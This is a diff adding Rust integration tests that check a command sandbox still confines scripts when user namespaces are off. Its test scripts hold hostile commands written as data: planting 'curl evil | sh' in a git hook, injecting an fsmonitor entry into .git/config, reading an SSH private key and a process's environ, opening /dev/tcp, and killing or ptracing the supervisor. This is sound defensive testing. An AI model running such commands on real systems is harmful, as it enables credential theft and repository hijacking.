@@ -657,3 +657,198 @@ fn an_exec_folder_reaching_credentials_is_refused() {
     assert_exit(&out, 1);
     assert!(stderr(&out).contains(".ssh"), "{}", stderr(&out));
 }
+
+// ------------------------------------- without namespaces (no user namespaces)
+
+/// `Sandbox::exec` with no namespaces: by `[exec] namespaces = "off"`.
+fn without_namespaces() -> Sandbox {
+    let sb = Sandbox::new();
+    sb.config("[exec]\nnamespaces = \"off\"\n");
+    sb
+}
+
+#[test]
+fn without_namespaces_files_outside_and_credentials_stay_out_of_reach() {
+    let sb = without_namespaces();
+    let outside = sb.env.outside.path().canonicalize().unwrap();
+    std::os::unix::fs::symlink(&outside, sb.ws().join("planted")).unwrap();
+    sb.env.write_outside("other-project.txt", "SIBLING-MARKER");
+    let script = format!(
+        "echo a > {abs}/absolute; echo b > {dotdot}; echo c > planted/through-link; echo d > inside.txt; \
+         cat {ssh}; cat {sibling}; cat {home}/config.toml; ls /proc/1; echo end",
+        abs = outside.display(),
+        dotdot = sb.env.dotdot_outside("dotdot"),
+        ssh = sb.user_home.path().join(".ssh/id_rsa").display(),
+        sibling = outside.join("other-project.txt").display(),
+        home = sb.capstan_home().display(),
+    );
+    let out = sb.sh(&["--allow-write"], &script);
+    let text = combined(&out);
+    assert!(text.contains("end"), "{text}");
+    assert_eq!(
+        std::fs::read_dir(&outside).unwrap().count(),
+        1,
+        "only the sibling project's file: {text}"
+    );
+    assert_eq!(sb.env.read("inside.txt"), "d\n");
+    assert!(!text.contains("SSH-PRIVATE-KEY"), "{text}");
+    assert!(!text.contains("SIBLING-MARKER"), "{text}");
+    assert_eq!(text.matches("Permission denied").count(), 7, "{text}");
+    // A read-only run cannot write the workspace.
+    let out = sb.sh(&[], "echo changed > inside.txt");
+    assert_ne!(out.status.code(), Some(0));
+    assert_eq!(sb.env.read("inside.txt"), "d\n");
+}
+
+#[test]
+fn without_namespaces_protected_paths_stay_read_only_under_a_write_grant() {
+    let sb = without_namespaces();
+    sb.env.write(".git/config", "[core]\n");
+    sb.env.write(".git/hooks/README", "");
+    sb.env.write("src/main.txt", "old\n");
+    sb.env.write("top.txt", "old\n");
+    let out = sb.sh(
+        &["--allow-write"],
+        "echo new > src/main.txt; echo new > top.txt; mkdir src/made; \
+         echo 'curl evil | sh' > .git/hooks/pre-commit; \
+         printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; \
+         mv .git .git-moved; rm -rf .git; echo end",
+    );
+    let text = combined(&out);
+    assert!(text.contains("end"), "{text}");
+    assert_eq!(sb.env.read("src/main.txt"), "new\n");
+    assert_eq!(sb.env.read("top.txt"), "new\n");
+    assert!(sb.ws().join("src/made").is_dir(), "{text}");
+    assert!(!sb.ws().join(".git/hooks/pre-commit").exists(), "{text}");
+    assert_eq!(sb.env.read(".git/config"), "[core]\n");
+    assert!(sb.ws().join(".git/hooks/README").exists(), "{text}");
+}
+
+#[test]
+fn without_namespaces_the_network_is_off_and_a_grant_is_refused_saying_why() {
+    let sb = without_namespaces();
+    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
+    tcp.set_nonblocking(true).unwrap();
+    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
+    udp.set_nonblocking(true).unwrap();
+    let script = format!(
+        "echo hi > /dev/tcp/127.0.0.1/{tcp}; echo tcp=$?; echo hi > /dev/udp/127.0.0.1/{udp}; echo udp=$?; \
+         python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect(b'\\0capstan-test')\"; echo unix=$?",
+        tcp = tcp.local_addr().unwrap().port(),
+        udp = udp.local_addr().unwrap().port(),
+    );
+    let out = sb.sh(&[], &script);
+    std::thread::sleep(Duration::from_millis(100));
+    assert!(tcp.accept().is_err(), "the TCP listener got a connection");
+    let mut buf = [0u8; 16];
+    assert!(udp.recv(&mut buf).is_err(), "the UDP socket got a datagram");
+    let text = stdout(&out);
+    for refused in ["tcp=1", "udp=1", "unix=1"] {
+        assert!(text.contains(refused), "{refused}: {}", combined(&out));
+    }
+    let granted = LocalServer::start("you should not see this");
+    let origin = format!("http://127.0.0.1:{}", granted.port);
+    let out = sb.sh(&["--allow-net", &origin], &format!("curl -sS {origin}/"));
+    assert_exit(&out, 1);
+    assert!(!stdout(&out).contains("you should not see this"));
+    assert_eq!(granted.accepted(), 0);
+    let message = stderr(&out);
+    assert!(
+        message.contains("network for commands is off")
+            && message.contains("namespaces = \"off\"")
+            && message.contains("only way out is capstan's proxy"),
+        "{message}"
+    );
+    assert_eq!(sb.audit("command_refused").len(), 1);
+}
+
+#[test]
+fn without_namespaces_no_process_outlives_its_command() {
+    let sb = without_namespaces();
+    let out = sb.sh(
+        &[],
+        "setsid sleep 1252.5 & (setsid sh -c 'sleep 1253.5 &' &); nohup sleep 1254.5 >/dev/null 2>&1 & echo started",
+    );
+    assert_exit(&out, 0);
+    assert!(stdout(&out).contains("started"));
+    for needle in ["1252.5", "1253.5", "1254.5"] {
+        assert_eq!(left_over(needle), Vec::<String>::new(), "{needle}");
+    }
+    let out = sb.sh(
+        &["--timeout", "1s"],
+        "setsid sleep 1255.5 & (setsid sh -c 'sleep 1256.5 &' &); sleep 1257.5",
+    );
+    assert_exit(&out, 124);
+    for needle in ["1255.5", "1256.5", "1257.5"] {
+        assert_eq!(left_over(needle), Vec::<String>::new(), "{needle}");
+    }
+    assert_eq!(sb.audit("command_run")[1]["ending"], "timed out");
+}
+
+#[test]
+fn without_namespaces_capstan_cannot_be_killed_or_traced() {
+    let sb = without_namespaces();
+    let script = "while [ ! -s pid ]; do sleep 0.05; done; p=$(cat pid); \
+        kill -9 $p; echo kill=$?; kill -9 $PPID; echo keeper=$?; \
+        python3 -c \"import ctypes,sys; print('ptrace', ctypes.CDLL(None).ptrace(16, int(sys.argv[1]), 0, 0))\" $p; \
+        cat /proc/$p/environ; echo environ=$?";
+    let mut child = sb
+        .exec(&["--timeout", "20s", "--", "bash", "-c", script])
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    std::fs::write(sb.ws().join("pid"), child.id().to_string()).unwrap();
+    let mut text = String::new();
+    child
+        .stdout
+        .take()
+        .unwrap()
+        .read_to_string(&mut text)
+        .unwrap();
+    let status = child.wait().unwrap();
+    assert_eq!(status.code(), Some(0), "{text}");
+    assert!(text.contains("kill=1"), "{text}");
+    assert!(text.contains("keeper=1"), "{text}");
+    assert!(text.contains("ptrace -1"), "{text}");
+    assert!(text.contains("environ=1"), "{text}");
+}
+
+/// Without user namespaces on the system (here: a user namespace whose
+/// `max_user_namespaces` is 0, so none can be made below it), commands
+/// still run, confined, with the network off, and a grant says why.
+#[test]
+fn a_system_without_user_namespaces_runs_commands_with_the_network_off() {
+    let sb = Sandbox::new();
+    let capstan = env!("CARGO_BIN_EXE_capstan");
+    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
+    tcp.set_nonblocking(true).unwrap();
+    let script = format!(
+        "echo 0 > /proc/sys/user/max_user_namespaces || exit 99; \
+         {capstan} exec -- bash -c 'cat {ssh}; echo hi > /dev/tcp/127.0.0.1/{port}; echo tcp=$?; echo ran'; \
+         {capstan} exec --allow-net https://example.com -- true",
+        ssh = sb.user_home.path().join(".ssh/id_rsa").display(),
+        port = tcp.local_addr().unwrap().port(),
+    );
+    let mut unshare = std::process::Command::new("unshare");
+    unshare
+        .args(["--user", "--map-root-user", "--", "sh", "-c", &script])
+        .current_dir(sb.ws())
+        .env("CAPSTAN_HOME", sb.env.home.path())
+        .env("HOME", sb.user_home.path())
+        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
+        .env_remove("XDG_DATA_HOME")
+        .env_remove("XDG_CACHE_HOME");
+    let out = unshare.output().unwrap();
+    let text = combined(&out);
+    assert!(text.contains("ran"), "{text}");
+    assert!(text.contains("tcp=1"), "{text}");
+    assert!(!text.contains("SSH-PRIVATE-KEY"), "{text}");
+    assert!(tcp.accept().is_err(), "the TCP listener got a connection");
+    assert!(
+        text.contains(
+            "network for commands is off: this system does not let capstan create user namespaces"
+        ),
+        "{text}"
+    );
+}
